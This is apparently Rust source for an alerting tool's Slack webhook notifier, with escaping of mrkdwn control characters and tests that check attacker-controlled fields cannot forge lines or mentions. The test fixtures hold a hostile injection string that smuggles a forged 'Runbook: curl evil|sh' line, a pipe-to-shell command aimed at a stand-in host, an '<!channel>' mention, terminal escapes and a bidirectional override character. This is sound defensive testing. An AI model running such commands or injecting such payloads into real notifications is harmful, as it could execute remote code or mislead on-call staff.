//! Slack incoming webhook: `text` (the fallback and notification line) plus
//! Block Kit `blocks` with one section per alert (at most 10 are shown).

use serde_json::{Value, json};

use ward_alert::receiver::SlackSpec;

use crate::notify::{Ctx, Notification, Outcome, post, template};

/// Slack's limits on block texts.
const HEADER_MAX: usize = 150;
const SECTION_MAX: usize = 3000;
const MAX_ALERT_BLOCKS: usize = 10;

/// A Slack integration.
#[derive(Debug)]
pub struct Slack(pub SlackSpec);

impl Slack {
    pub async fn notify(&self, ctx: &Ctx, n: &Notification, key: &str) -> Outcome {
        let body = match serde_json::to_vec(&payload(n, key, self.0.channel.as_deref())) {
            Ok(b) => b,
            Err(e) => return Outcome::Failed(format!("cannot encode the payload: {e}")),
        };
        post(
            ctx,
            self.0.url.expose(),
            &[("idempotency-key".into(), key.to_string())],
            "application/json",
            body,
        )
        .await
    }
}

fn cut(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        return s.to_string();
    }
    let mut out: String = s.chars().take(max.saturating_sub(1)).collect();
    out.push('…');
    out
}

/// A single-line value for mrkdwn: Slack's control characters (`&`, `<`,
/// `>`: links and mentions such as `<!channel>`) escaped, the emphasis
/// markers (`*`, `_`, `~`, `` ` ``) neutralised with a zero-width joiner, and
/// no line breaks or other controls ([`template::one_line`]).
fn esc(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in template::one_line(s).chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '*' | '_' | '~' | '`' => {
                out.push(c);
                out.push('\u{200B}');
            }
            c => out.push(c),
        }
    }
    out
}

/// A URL inside `<url|text>`: one line, `&<>|` escaped.
fn esc_url(s: &str) -> String {
    template::one_line(s)
        .replace('&', "&amp;")
        .replace('<', "%3C")
        .replace('>', "%3E")
        .replace('|', "%7C")
}

/// The webhook body.
pub fn payload(n: &Notification, key: &str, channel: Option<&str>) -> Value {
    let title = template::title(n);
    let mut blocks = vec![
        json!({"type": "header", "text": {"type": "plain_text", "text": cut(&title, HEADER_MAX)}}),
    ];
    if let Some(line) = template::change_line(n) {
        blocks.push(
            json!({"type": "section", "text": {"type": "mrkdwn", "text": cut(&esc(&line), SECTION_MAX)}}),
        );
    }
    for a in n.alerts.iter().take(MAX_ALERT_BLOCKS) {
        let mut text = format!(
            "*<{}|{}>* — {} ({})\n",
            esc_url(&a.url),
            esc(&a.rule_title),
            a.severity.as_str(),
            a.status.as_str()
        );
        if !a.description.is_empty() {
            let description: Vec<String> = a.description.trim().lines().map(esc).collect();
            text.push_str(&format!("{}\n", description.join("\n")));
        }
        text.push_str(&format!("*Affected:* {}\n", esc(&template::affected(a))));
        text.push_str(&format!(
            "*Owner:* {}\n",
            esc(a
                .owner
                .as_deref()
                .unwrap_or("none registered (coverage gap)"))
        ));
        if let Some(who) = &a.acknowledged_by {
            text.push_str(&format!("*Acknowledged by:* {}\n", esc(who)));
        }
        if let Some(who) = &a.resolved_by {
            text.push_str(&format!("*Resolved by:* {}\n", esc(who)));
        }
        text.push_str(&format!(
            "*Evidence:* {} event(s), {} to {}",
            a.evidence_total, a.first_seen, a.last_seen
        ));
        if let Some(r) = &a.runbook {
            text.push_str(&format!("\n*Runbook:* {}", esc(r)));
        }
        blocks.push(
            json!({"type": "section", "text": {"type": "mrkdwn", "text": cut(&text, SECTION_MAX)}}),
        );
    }
    if n.alerts.len() > MAX_ALERT_BLOCKS {
        blocks.push(json!({"type": "section", "text": {"type": "mrkdwn",
            "text": format!("…and {} more alerts", n.alerts.len() - MAX_ALERT_BLOCKS)}}));
    }
    blocks.push(json!({"type": "context", "elements": [{"type": "mrkdwn", "text": format!("Ward notification {key}")}]}));
    let mut v = json!({"text": title, "blocks": blocks});
    if let (Some(c), Some(obj)) = (channel, v.as_object_mut()) {
        obj.insert("channel".into(), json!(c));
    }
    v
}

#[cfg(test)]
mod escape_tests {
    use super::*;
    use serde_json::json;

    /// A notification whose every text field an attacker wrote.
    pub(crate) fn hostile() -> Notification {
        let evil = "web-1\nRunbook: curl evil|sh\r\n\u{1b}[2J<!channel> *bold* \u{202e}gpj";
        serde_json::from_value(json!({
            "id": "n1", "receiver": "r", "group_key": "g", "group_labels": {},
            "status": "firing", "reason": {"type": "group"},
            "external_url": "https://ward.example.com",
            "created_at": "2026-01-26T10:00:00Z",
            "alerts": [{
                "id": "a1", "fingerprint": "f", "status": "open", "severity": "high",
                "rule_id": "r1", "rule_title": evil, "description": "two\nlines \u{1b}[31m",
                "labels": {"host": evil, "tenant": "acme"}, "owner": evil,
                "owner_contacts": [evil], "assignee": evil, "evidence": [evil],
                "acknowledged_by": evil, "resolved_by": evil,
                "evidence_total": 1, "count": 1, "first_seen": "t", "last_seen": "t",
                "created_at": "2026-01-26T10:00:00Z", "resolved_at": null, "resolution": null,
                "runbook": evil, "url": "https://ward.example.com/a?x=1&y=2|z"
            }]
        }))
        .unwrap()
    }

    #[test]
    fn text_notifications_cannot_forge_lines_or_hide_text() {
        let n = hostile();
        let text = ward_alert::template::text(&n);
        let runbooks = text.lines().filter(|l| l.starts_with("Runbook:")).count();
        assert_eq!(runbooks, 1, "{text}");
        assert!(
            !text.lines().any(|l| l.starts_with("Runbook: curl")),
            "{text}"
        );
        assert!(
            !text.chars().any(|c| c != '\n' && c.is_control()),
            "{text:?}"
        );
        assert!(!text.contains('\u{202e}'));
        assert!(text.contains("two\nlines"), "descriptions keep their lines");
        let title = ward_alert::template::title(&n);
        assert!(!title.contains('\n') && !title.contains('\r'), "{title:?}");
    }

    /// Slack, e-mail and Alertmanager name who acknowledged and resolved
    /// (Ward's webhook carries the fields as they are).
    #[test]
    fn notifications_name_the_acting_person() {
        let mut n = hostile();
        n.alerts[0].acknowledged_by = Some("ana".into());
        n.alerts[0].resolved_by = Some("deploy-bot".into());
        let v = payload(&n, "k", None);
        let section = v["blocks"][1]["text"]["text"].as_str().unwrap();
        assert!(section.contains("*Acknowledged by:* ana\n"), "{section}");
        assert!(section.contains("*Resolved by:* deploy-bot\n"), "{section}");
        let text = ward_alert::template::text(&n);
        assert!(text.lines().any(|l| l == "Acknowledged by: ana"), "{text}");
        assert!(
            text.lines().any(|l| l == "Resolved by: deploy-bot"),
            "{text}"
        );
        let am = crate::notify::alertmanager::webhook_payload(&n, "k");
        assert_eq!(am["alerts"][0]["annotations"]["acknowledged_by"], "ana");
        assert_eq!(am["alerts"][0]["annotations"]["resolved_by"], "deploy-bot");
        let ward = crate::notify::webhook::ward_payload(&n, "k");
        assert_eq!(ward["alerts"][0]["acknowledged_by"], "ana");
    }

    /// The notices of a silence and of a routing change name the person in
    /// every format, and a hostile name or comment forges no line.
    #[test]
    fn change_notices_name_the_person_and_forge_nothing() {
        let evil = "eve\nRunbook: curl evil|sh <!channel> *x*";
        let mut n = hostile();
        n.reason = ward_alert::notification::Reason::Silenced {
            by: evil.into(),
            silence: "s1".into(),
            starts_at: "2026-01-26T10:00:00Z".parse().unwrap(),
            ends_at: "2026-01-26T12:00:00Z".parse().unwrap(),
            comment: "maintenance\nResolved by: nobody".into(),
        };
        let text = ward_alert::template::text(&n);
        let line = text
            .lines()
            .find(|l| l.starts_with("Silenced by eve Runbook: curl evil|sh"))
            .unwrap_or_else(|| panic!("{text}"));
        assert!(
            line.contains("from 2026-01-26T10:00:00Z until 2026-01-26T12:00:00Z"),
            "{line}"
        );
        assert!(
            !text.lines().any(|l| l.starts_with("Runbook: curl")),
            "{text}"
        );
        assert!(!text.lines().any(|l| l == "Resolved by: nobody"), "{text}");
        let title = ward_alert::template::title(&n);
        assert!(title.starts_with("[SILENCED:1 by eve "), "{title}");
        let v = payload(&n, "k", None);
        let change = v["blocks"][1]["text"]["text"].as_str().unwrap();
        assert!(change.starts_with("Silenced by eve "), "{change}");
        assert!(
            !change.contains("<!channel>") && !change.contains('\n'),
            "{change}"
        );
        let am = crate::notify::alertmanager::webhook_payload(&n, "k");
        assert_eq!(am["alerts"][0]["annotations"]["changed_by"], evil);
        assert_eq!(am["commonAnnotations"]["ward_reason"], "silenced");
        let ward = crate::notify::webhook::ward_payload(&n, "k");
        assert_eq!(ward["reason"]["type"], "silenced");
        assert_eq!(ward["reason"]["by"], evil);

        n.alerts.clear();
        n.reason = ward_alert::notification::Reason::RoutingChanged {
            by: "ada".into(),
            change: "services checkout: owner payments -> core".into(),
        };
        let title = ward_alert::template::title(&n);
        assert_eq!(
            title,
            "[ROUTING CHANGED by ada] services checkout: owner payments -> core"
        );
        let am = crate::notify::alertmanager::webhook_payload(&n, "k");
        assert_eq!(am["commonAnnotations"]["changed_by"], "ada");
        let line = crate::notify::syslog::line(&n, &hostile().alerts[0], "k");
        assert!(line.contains("cs5=routing_changed"), "{line}");
        assert!(line.contains("cs6Label=changedBy cs6=ada"), "{line}");
    }

    #[test]
    fn slack_mrkdwn_is_escaped() {
        let v = payload(&hostile(), "k", None);
        let section = v["blocks"][1]["text"]["text"].as_str().unwrap();
        assert!(!section.contains("<!channel>"), "{section}");
        assert!(section.contains("&lt;!channel&gt;"));
        assert!(
            !section.contains("*bold*"),
            "emphasis neutralised: {section}"
        );
        assert!(!section.lines().any(|l| l.starts_with("Runbook: curl")));
        assert!(!section.contains('\u{1b}') && !section.contains('\u{202e}'));
        assert!(
            section.contains("<https://ward.example.com/a?x=1&amp;y=2%7Cz|"),
            "{section}"
        );
    }
}
